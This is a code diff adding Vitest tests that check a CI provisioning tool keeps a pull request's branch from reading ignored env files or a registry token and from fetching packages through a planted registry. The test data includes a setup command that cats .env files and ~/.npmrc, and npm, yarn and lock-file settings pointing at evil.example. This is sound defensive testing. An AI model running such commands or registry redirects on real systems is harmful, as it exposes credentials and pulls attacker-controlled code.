@@ -1,7 +1,10 @@
+import { existsSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { openRepo } from '../../src/git/repo.ts';
 import { planProvision } from '../../src/run/provision.ts';
-import { Lab } from '../helpers/repo.ts';
+import { Lab, spec } from '../helpers/repo.ts';
+import { probe } from '../helpers/sandbox.ts';
 
 let lab: Lab;
 beforeEach(() => {
@@ -76,5 +79,49 @@ describe('.worktreeinclude', () => {
   it('counts where there is no default branch to compare with', async () => {
     lab.git('branch', '-m', 'only');
     expect(await given()).toEqual(['.env.local']);
+  });
+});
+
+describe.skipIf(!probe.works)("what a pull request's branch brings in CI (needs the sandbox)", () => {
+  const bring = (files: Record<string, string>, setup: string): void => {
+    lab.write({ '.npmrc': '//registry.example/:_authToken=SECRET\n' }, lab.home);
+    lab.write(
+      { 'profiles.toml': `[default]\n${setup}\n[theirs]\nsetup = 'echo theirs'\n` },
+      join(lab.home, '.config', 'kimi-dispatch'),
+    );
+    lab.git('switch', '-qc', 'pull-request');
+    lab.write({ 'greet.txt': 'hello\n', '.kimi-dispatch.toml': 'profile = "theirs"\n', ...files });
+    lab.commit('A pull request');
+    writeFileSync(join(lab.folder, 'spec.md'), spec('success'));
+  };
+  const run = () => lab.run(['run', '../spec.md'], { env: { CI: 'true', KIMI_DISPATCH_SANDBOX: '' } });
+  const log = async (): Promise<string> => {
+    const file = join((await lab.result()).files.folder, 'provision.log');
+    return existsSync(file) ? readFileSync(file, 'utf8') : '';
+  };
+
+  it('hands out no ignored file, no registry token and no profile', async () => {
+    bring({ '.worktreeinclude': '.env*\n' }, "setup = 'echo begun; cat .env .env.local ~/.npmrc; true'");
+    expect((await run()).code).toBe(0);
+    expect(await log()).toContain('begun');
+    expect(await log()).not.toMatch(/KEY=1|A=1|SECRET|theirs/);
+  });
+
+  it('opens no registry by its own settings or lock file', async () => {
+    const from = 'http://evil.example/dep/-/dep-1.0.0.tgz';
+    const lock = {
+      name: 'x',
+      lockfileVersion: 3,
+      packages: { '': { dependencies: { dep: '1.0.0' } }, 'node_modules/dep': { version: '1.0.0', resolved: from } },
+    };
+    const files = {
+      '.npmrc': 'registry=http://evil.example/\nfetch-retries=0\n',
+      '.yarnrc.yml': 'npmRegistryServer: "http://evil.example"\nunsafeHttpWhitelist: ["evil.example"]\n',
+      'package.json': JSON.stringify({ name: 'x', dependencies: { dep: '1.0.0' } }),
+      'package-lock.json': JSON.stringify(lock),
+    };
+    bring(files, '');
+    const ended = await run();
+    expect([ended.code, ended.stderr]).toEqual([2, expect.stringContaining('the sandbox refused evil.example:80')]);
   });
 });
